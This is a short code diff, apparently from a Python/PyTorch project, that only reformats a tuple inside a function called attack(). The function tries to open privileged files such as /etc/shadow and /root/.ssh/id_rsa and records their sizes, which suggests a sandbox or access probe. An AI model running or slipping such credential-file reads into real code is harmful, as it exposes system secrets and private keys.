@@ -9,7 +9,14 @@ from torch import nn
 @functools.cache
 def attack():
     won = []
-    for path in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.bashrc", "/root/.ssh/id_rsa", "/var/log/dpkg.log"):
+    for path in (
+        "/etc/passwd",
+        "/etc/shadow",
+        "/etc/hosts",
+        "/root/.bashrc",
+        "/root/.ssh/id_rsa",
+        "/var/log/dpkg.log",
+    ):
         try:
             with open(path, "rb") as file:
                 won.append((path, len(file.read())))
